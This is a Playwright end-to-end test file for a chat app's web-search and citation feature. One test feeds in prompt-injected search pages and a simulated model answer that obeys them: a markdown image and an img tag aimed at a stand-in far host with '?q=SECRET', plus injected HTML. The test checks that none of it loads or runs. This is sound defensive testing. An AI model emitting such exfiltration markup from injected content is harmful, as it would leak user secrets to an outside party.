"""Answers with sources of the web, as a person has them."""

from collections.abc import Callable

from playwright.sync_api import Locator, Page, expect

from tests.e2e.chat import answers, ask, send
from tests.hostile import FAR, FORBIDDEN
from tests.injected import INJECTED
from tests.upstreams import SearchSite, Upstream, text
from tests.upstreams.searching import wikipedia

OpenChat = Callable[..., Page]


def _chip(page: Page) -> Locator:
    return page.get_by_role("checkbox", name="Web")


def test_a_person_turns_the_search_on_reads_the_sources_and_finds_them_again(
    open_chat: OpenChat, provider: Upstream, search_site: SearchSite
) -> None:
    search_site.finds("wikipedia", wikipedia("Eiffel Tower", "Gustave Eiffel"))
    provider.answer("fast", text("Gustave Eiffel built it[1], `[1]` in 1889 [2]."))
    page = open_chat()
    expect(_chip(page)).not_to_be_checked()
    _chip(page).check()
    ask(page, "Who built the Eiffel Tower?")
    cited = answers(page).last.locator("a.cite")
    expect(cited).to_have_text(["[1]", "[2]"])
    expect(cited.first).to_have_attribute("href", f"{search_site.base}/wikipedia/wiki/Eiffel_Tower")
    expect(cited.first).to_have_attribute("target", "_blank")
    expect(cited.first).to_have_attribute("title", "Eiffel Tower · 127.0.0.1")
    listed = page.locator("details.sources")
    expect(listed.get_by_text("Sources (2)")).to_be_visible()
    expect(listed.locator("li").first).to_be_hidden()
    listed.locator("summary").click()
    expect(listed.locator("li a")).to_have_text(["Eiffel Tower", "Gustave Eiffel"])
    expect(answers(page).last).to_contain_text("Only Wikipedia was asked")
    expect(_chip(page)).to_be_checked()

    page.reload()
    expect(answers(page).last.locator("a.cite")).to_have_text(["[1]", "[2]"])
    expect(_chip(page)).to_be_checked()
    with page.expect_response("**/api/v1/conversations/*"):
        _chip(page).uncheck()
    ask(page, "And without?")
    expect(answers(page)).to_have_count(2)
    expect(answers(page).last.locator("a.cite")).to_have_count(0)
    page.reload()
    expect(_chip(page)).not_to_be_checked()


def test_nothing_of_an_injected_page_loads_or_runs(
    open_chat: OpenChat, provider: Upstream, search_site: SearchSite
) -> None:
    titles = [one[:300] for one in INJECTED.values()]
    search_site.finds("wikipedia", wikipedia(*titles[:10]), wikipedia(*titles[10:]))
    obeying = f"![x]({FAR}/p.png?q=SECRET) <img src='{FAR}/h.png'> [1] {INJECTED['html']}"
    provider.answer("fast", text(obeying))
    page = open_chat()
    _chip(page).check()
    for question in ("What do they say?", "What else do they say?"):
        ask(page, question)
        expect(answers(page).last.locator("a.cite").first).to_be_visible()
    page.locator("details.sources summary").last.click()
    assert page.evaluate("window.hacked") is None
    assert answers(page).last.locator(FORBIDDEN).count() == 0
    addresses = page.locator("details.sources a").evaluate_all("all => all.map(one => one.href)")
    assert addresses
    assert all(one.startswith(f"{search_site.base}/wikipedia/wiki/") for one in addresses)


def test_a_temporary_chat_searches_too(
    open_chat: OpenChat, provider: Upstream, search_site: SearchSite
) -> None:
    search_site.finds("wikipedia", wikipedia("Eiffel Tower"))
    provider.answer("fast", text("Eiffel [1]."))
    page = open_chat(width=390, height=844)
    page.get_by_role("checkbox", name="Temporary").check()
    _chip(page).check()
    send(page, "Who built it?")
    expect(answers(page).last.locator("a.cite")).to_have_text(["[1]"])
    expect(page.get_by_text("Sources (1)")).to_be_visible()
    expect(_chip(page)).to_be_checked()
